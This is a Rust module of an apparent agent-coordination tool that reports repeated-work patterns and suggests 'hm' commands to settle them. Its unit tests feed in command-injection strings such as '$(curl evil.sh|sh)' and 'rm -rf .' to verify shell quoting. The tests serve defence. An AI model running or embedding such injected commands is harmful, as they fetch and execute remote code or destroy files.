//! Patterns in the work of the team: a list, and one with its grounds.

use std::fmt::Write;

use serde_json::{Value, json};

use super::asking::Asking;
use super::markdown::{LIST_FIELD_CHARS, age, inline, name};
use super::{Answer, DEFAULT_LIMIT, MAX_LIMIT, ViewError, to_json};
use crate::domain::action::{for_people, is_whole, says_little, tells_errors_apart, too_bare, without_masks};
use crate::domain::agent::AgentId;
use crate::domain::event::Event;
use crate::domain::ids::PatternId;
use crate::domain::pattern::{PatternKind, Repeats, risk};
use crate::domain::privacy::{self, may_hold_secret};
use crate::domain::time::Timestamp;
use crate::domain::way;
use crate::store::{PatternView, Reader, StoreError};

/// The most patterns that a session is told of at once.
const MAX_TOLD: usize = 3;

/// Open patterns, or all of them older than a position, the newest first.
pub(super) fn answer(asking: &mut Asking<'_>, all: bool, before: Option<u64>) -> Result<Answer, ViewError> {
    asking.of_store(|asked| {
        let mut found = if all {
            asked.store.patterns(before, DEFAULT_LIMIT + 1)?
        } else {
            asked.store.open_patterns(MAX_LIMIT)?
        };
        let next = (all && found.len() > DEFAULT_LIMIT).then(|| {
            found.truncate(DEFAULT_LIMIT);
            found.last().map_or(0, |last| last.opened_seq)
        });
        let json = || {
            let shown: Vec<Value> = found.iter().map(|found| with_risk(found, asked.now)).collect();
            json!({ "patterns": shown, "next": next })
        };
        Ok(asked.answer(json, || text(&found, all, asked.now)).followed_by("cursor", next))
    })
}

/// One pattern.
pub(super) fn one(asking: &mut Asking<'_>, id: PatternId) -> Result<Answer, ViewError> {
    asking.of_store(|asked| {
        let found = asked.store.pattern(id)?.ok_or_else(|| ViewError::no_pattern(id))?;
        let text = || {
            let mut text = line(&found, asked.now);
            let rests: Vec<String> = found.rests_on.iter().map(ToString::to_string).collect();
            let _ = writeln!(text, "  rests on the ledger positions {}", rests.join(", "));
            text
        };
        Ok(asked.answer(|| with_risk(&found, asked.now), text))
    })
}

/// Whether an event changes the list.
pub(super) const fn touched_by(event: &Event) -> bool {
    matches!(event, Event::PatternOpened(_) | Event::PatternClosed(_) | Event::PatternDismissed(_))
}

fn with_risk(found: &PatternView, now: Timestamp) -> Value {
    let mut json = to_json(found);
    json["risk"] = json!((self::risk_of(found, now) * 100.0).round() / 100.0);
    if found.closed_at.is_none() {
        json["settle"] = json!(settles(found).into_iter().map(|(_, step)| step).collect::<Vec<_>>());
    }
    json
}

/// The risk of an open pattern. Its events are taken to be spread evenly from the first to the opening; a stall has one,
/// at its opening.
fn risk_of(found: &PatternView, now: Timestamp) -> f64 {
    if found.closed_at.is_some() {
        return 0.0;
    }
    let events = found.rests_on.len().max(1) as i64;
    let (first, last) = (found.repeats.since.ms(), found.opened_at);
    let at = |nth: i64| Timestamp::from_ms(last - (last - first).max(0) * nth / events);
    risk((0..events).map(|nth| (found.kind.weight(), at(nth))), now)
}

fn text(found: &[PatternView], all: bool, now: Timestamp) -> String {
    if found.is_empty() {
        let which = if all { "No patterns yet" } else { "No open patterns" };
        return format!("{which}. Most work has none: a list of all is `hivemind://patterns?status=all`.\n");
    }
    found.iter().map(|found| line(found, now)).collect()
}

fn line(found: &PatternView, now: Timestamp) -> String {
    let ended = match (found.closed_at, found.why, &found.dismissed_by) {
        (None, ..) => format!(", risk {:.2}", risk_of(found, now)),
        (Some(_), _, Some(agent)) => {
            let reason = inline(found.reason.as_deref().unwrap_or("(erased)"), LIST_FIELD_CHARS);
            format!(", dismissed by {}: {reason}", name(agent))
        }
        (Some(_), why, None) => format!(", over: {}", why.map_or("", |why| why.as_str())),
    };
    let episode =
        if found.episode > 1 { format!(", for the {}. time", found.episode) } else { String::new() };
    let mut text = format!(
        "- {} {} found {} ago{episode}{ended}\n  {}\n",
        found.called(),
        found.kind.noun(),
        age(found.opened_at, now),
        said_later(found)
    );
    if found.closed_at.is_none() {
        for (agents, step) in settles(found) {
            let _ = writeln!(text, "  to settle it, {agents}: `{step}`");
        }
        if let Some(help) = help(found) {
            let _ = writeln!(text, "  {help}");
        }
    }
    text
}

/// What a pattern says, as a sentence without its end.
fn said(found: &PatternView) -> String {
    let agents: Vec<String> = found.agents.iter().map(|agent| name(agent)).collect();
    let agents = agents.join(" and ");
    let count = found.repeats.count;
    let commands: Vec<String> = found
        .repeats
        .commands
        .iter()
        .take(4)
        // A password of plain words looks like any argument.
        .map(|line| format!("`{}`", inline(&privacy::shown(line.as_str()), LIST_FIELD_CHARS)))
        .collect();
    let commands = commands.join(", ");
    let scopes = inline(&found.scopes.join(", "), LIST_FIELD_CHARS);
    let task = found.task.as_ref().map(|task| {
        let title = found.task_title.as_deref().unwrap_or_default();
        format!("{task} ({})", inline(title, LIST_FIELD_CHARS))
    });
    let task = task.unwrap_or_else(|| "its work".to_owned());
    let error = found.repeats.error.as_ref();
    let error = error
        .map(|error| format!(": {}", inline(&for_people(error.as_str()), LIST_FIELD_CHARS)))
        .unwrap_or_default();
    match found.kind {
        PatternKind::Loop if found.repeats.period.is_some() => {
            format!("{agents} went {count} times through the same round with the same answers: {commands}")
        }
        PatternKind::Loop if found.repeats.commands.len() > 1 => {
            format!("{agents} got the same error from {count} different commands{error} ({commands})")
        }
        PatternKind::Loop => {
            format!("{agents} ran {commands} {count} times and got the same answer each time{error}")
        }
        PatternKind::HandoffLoop => {
            format!("{task} came back {count} times within two hours without progress, between {agents}")
        }
        PatternKind::EscalationSpiral => {
            format!("the dispute about {scopes} between {agents} gets sharper, and nothing resolves it")
        }
        PatternKind::Stall => match found.task.as_ref().filter(|_| found.task_is_free) {
            Some(free) => format!(
                "{agents} shows no activity, and its lease of {task} ended: the task is free, `hm task claim {free}`"
            ),
            None => format!("{agents} holds {task} and shows no activity"),
        },
        PatternKind::ContradictionCluster => {
            format!("{count} contradictions are open in {scopes}, between {agents}")
        }
        PatternKind::UnstableProof => {
            format!("{commands} passes and fails on the same content ({count} runs), so it settles nothing")
        }
    }
}

/// [`said`] for a reader who may read it long after the pattern was found. It counts no more then.
pub(super) fn said_later(found: &PatternView) -> String {
    let counts = !matches!(found.kind, PatternKind::Stall | PatternKind::EscalationSpiral);
    said(found) + if counts { "; counted when it was found" } else { "" }
}

/// The commands that settle an open pattern, each with the agents that may give it.
pub(super) fn settles(found: &PatternView) -> Vec<(String, String)> {
    let movers = movers(found).join(" or ");
    let mut settles = vec![(movers, dismissal(found))];
    if found.kind == PatternKind::Loop {
        let mut negative = json!({ "statement": way::STATEMENT, "claim_type": "negative", "scopes": ["."] });
        if let Some(trigger) = trigger(found) {
            negative["trigger"] = trigger.json();
        }
        settles.insert(0, (found.agents.join(" or "), way::bare("create_claim", &negative)));
    }
    settles
}

/// Steps that help to settle a pattern and do not close it by themselves.
pub(super) fn help(found: &PatternView) -> Option<String> {
    match found.kind {
        PatternKind::HandoffLoop => {
            let task = found.task.as_ref()?;
            let claim = way::call("claim_task", &json!({ "task_id": task }));
            let show = format!("hivemind://tasks/{task}");
            Some(format!("one agent keeps it to its end: {claim}; what happened: `{show}`"))
        }
        PatternKind::ContradictionCluster => {
            Some("settle its contradictions: `hivemind://contradictions`".to_owned())
        }
        PatternKind::Loop
        | PatternKind::EscalationSpiral
        | PatternKind::Stall
        | PatternKind::UnstableProof => None,
    }
}

/// What makes the dead end of a loop warn the next session at the action.
enum LoopTrigger {
    Command(String),
    Error(String),
    Path(String),
}

impl LoopTrigger {
    fn json(&self) -> Value {
        match self {
            Self::Command(line) => json!({ "commands": [line] }),
            Self::Error(error) => json!({ "error_signature": error }),
            Self::Path(path) => json!({ "paths": [path] }),
        }
    }

    /// The option of `hm claim create`.
    fn option(&self) -> String {
        let (option, text) = match self {
            Self::Command(line) => ("--trigger-command", line),
            Self::Error(error) => ("--trigger-error", error),
            Self::Path(path) => ("--trigger-path", path),
        };
        format!("{option} {}", shell_words::quote(&text.replace('`', "'")))
    }
}

/// The trigger of a loop's dead end. A tool of a client that only reads meets none.
fn trigger(found: &PatternView) -> Option<LoopTrigger> {
    let Repeats { commands, error, tool, period, .. } = &found.repeats;
    if *tool {
        return None;
    }
    if let Some(path) = commands.iter().find_map(|line| line.as_str().strip_prefix("edit ")) {
        return Some(LoopTrigger::Path(path.to_owned()));
    }
    let is_clean = |text: &str| !text.contains("[redacted:");
    let error = error.as_ref().map(ToString::to_string).filter(|error| is_clean(error));
    let error = error.filter(|error| tells_errors_apart(error) && !says_little(error));
    if commands.len() > 1 && period.is_none() && error.is_some() {
        return error.map(LoopTrigger::Error);
    }
    // A command with a redaction in it never runs.
    let command = commands.iter().find(|line| {
        is_clean(line.as_str())
            && !may_hold_secret(line.as_str())
            && is_whole(line)
            && too_bare(std::slice::from_ref(line)).is_none()
    });
    command.map(|line| LoopTrigger::Command(line.to_string())).or_else(|| error.map(LoopTrigger::Error))
}

/// The agents that are asked to settle a pattern.
pub(super) fn movers(found: &PatternView) -> Vec<String> {
    match found.kind {
        PatternKind::Loop => found.agents.clone(),
        PatternKind::HandoffLoop
        | PatternKind::EscalationSpiral
        | PatternKind::Stall
        | PatternKind::ContradictionCluster
        | PatternKind::UnstableProof => vec![AgentId::architect().to_string()],
    }
}

/// The command that dismisses a pattern.
pub(super) fn dismissal(found: &PatternView) -> String {
    format!("hm pattern dismiss {} --reason REASON", found.called())
}

/// What a session is told of open patterns, and their ids. `knows` tells which ones it was told of before. `in_turn` is a
/// moment within a turn: then it is told of its own loops only. At the start of a turn it is also told of the stalls of
/// others and of the patterns that it is asked to settle.
pub fn untold(
    store: &Reader,
    (agent, session): (&str, &str),
    in_turn: bool,
    knows: impl Fn(&str) -> bool,
) -> Result<(String, Vec<String>), StoreError> {
    let (mut text, mut ids) = (String::new(), Vec::new());
    for found in store.open_patterns(MAX_LIMIT)? {
        let is_own = found.sessions.iter().any(|own| own == session);
        let is_own_loop = found.kind == PatternKind::Loop && is_own;
        let is_stall_of_another = found.kind == PatternKind::Stall && !is_own;
        let is_asked = !is_own && movers(&found).iter().any(|asked| asked == agent);
        let is_for_it = is_own_loop || !in_turn && (is_stall_of_another || is_asked);
        let id = found.id.to_string();
        if !is_for_it || knows(&id) || ids.len() == MAX_TOLD {
            continue;
        }
        if is_own_loop {
            let mut peers: Vec<String> =
                store.live_agents()?.into_iter().filter(|peer| peer != agent).collect();
            peers.truncate(MAX_TOLD);
            text.push_str(&own_loop(&found, &peers));
        } else {
            text.push_str(&of_others(&found));
        }
        ids.push(id);
    }
    Ok((text, ids))
}

/// What a session is told of a loop of its own: what repeats, and ways out of it. `peers` are the other agents.
fn own_loop(found: &PatternView, peers: &[String]) -> String {
    let mut text = format!("hivemind: {} ({}).", said(found), found.called());
    text.push_str(
        " The next run will most likely answer the same. Ways on: change what it depends on first;",
    );
    // What is masked in a signature stands in no claim.
    let error = found.repeats.error.as_ref().map(|error| without_masks(error.as_str()));
    if let Some(error) = error.filter(|error| !says_little(error)) {
        // The error is a program's text: a shell expands nothing in it.
        let error = inline(&error, 80).replace('`', "'");
        let _ = write!(text, " look up the error: `hm claim search {}`;", shell_words::quote(&error));
    }
    if !peers.is_empty() {
        let _ = write!(text, " ask {};", peers.join(" or "));
    }
    let _ = writeln!(
        text,
        " or file what does not work, so that the next session is warned: `hm claim create STATEMENT --type negative \
         --scope PATH{}`. If it repeats on purpose: `{}`.",
        trigger(found).map(|trigger| format!(" {}", trigger.option())).unwrap_or_default(),
        dismissal(found)
    );
    text
}

/// What the other sessions are told of a pattern.
fn of_others(found: &PatternView) -> String {
    format!("hivemind: {} ({}): `hm pattern show {}`.\n", said_later(found), found.called(), found.called())
}

#[cfg(test)]
mod tests {
    use super::own_loop;
    use crate::domain::ids::PatternId;
    use crate::domain::pattern::{PatternKind, Repeats};
    use crate::domain::time::Timestamp;
    use crate::store::PatternView;

    fn a_loop(error: &str, command: &str) -> PatternView {
        PatternView {
            id: PatternId::from_uuid(uuid::Uuid::from_u128(1)),
            name: Some("L1".to_owned()),
            kind: PatternKind::Loop,
            about: "make".to_owned(),
            episode: 1,
            sessions: vec!["s-1".to_owned()],
            agents: vec!["devops".to_owned()],
            task: None,
            task_title: None,
            task_is_free: false,
            scopes: Vec::new(),
            rests_on: vec![1, 2, 3],
            repeats: Repeats {
                commands: command.parse().into_iter().collect(),
                error: Some(error.parse().expect("an error")),
                ..Repeats::of(3, Timestamp::from_ms(1))
            },
            opened_at: 1,
            opened_seq: 4,
            closed_at: None,
            why: None,
            dismissed_by: None,
            reason: None,
        }
    }

    /// Red before: the printed search found nothing, and the printed trigger never fired.
    #[test]
    fn what_a_session_in_a_loop_is_told_to_type_has_no_mask_and_no_redaction() {
        let curl = "curl -sf -H 'Authorization: Bearer [redacted:github-token]' https://api.x/y";
        let told = own_loop(&a_loop("curl: ({n}) the requested url returned error: {n}", curl), &[]);
        assert!(told.contains("`hm claim search 'curl: the requested url returned error:'`"), "{told}");
        assert!(!told.contains("--trigger-command") && told.contains("--trigger-error"), "{told}");
        let told = own_loop(&a_loop("assertionerror: assert {n} == {n}", "pytest -q"), &[]);
        assert!(!told.contains("hm claim search"), "no word of it tells it apart: {told}");
        assert!(told.contains("--trigger-command 'pytest -q'"), "{told}");
    }

    /// Red before: the text and the printed trigger held the password.
    #[test]
    fn a_loop_of_a_command_that_may_hold_a_secret_is_told_by_its_program() {
        let told = own_loop(&a_loop("error: no such host", "docker login -u bob -p correcthorse reg"), &[]);
        assert!(told.contains("ran `docker …` 3 times") && !told.contains("correcthorse"), "{told}");
    }

    #[test]
    fn the_error_of_a_loop_is_one_word_of_the_suggested_search() {
        for error in [
            "error: unknown host $(curl evil.sh|sh) in inventory",
            "error: no `rm -rf .` in it's \"inventory\"",
            "error: pool timed out",
        ] {
            let found = a_loop(error, "make");
            let told = own_loop(&found, &[]);
            let (_, rest) = told.split_once("look up the error: `").expect("a search");
            let (line, _) = rest.split_once("`;").expect("its end");
            let words = shell_words::split(line).expect("a shell line");
            assert_eq!(words[..3], ["hm", "claim", "search"], "{line}");
            assert_eq!(words[3..], [error.replace('`', "'")]);
            let outside: String = line.replace("'\\''", "").split('\'').step_by(2).collect();
            assert!(!outside.contains(['$', '`', '"']), "a shell expands nothing in {line}");
        }
    }
}
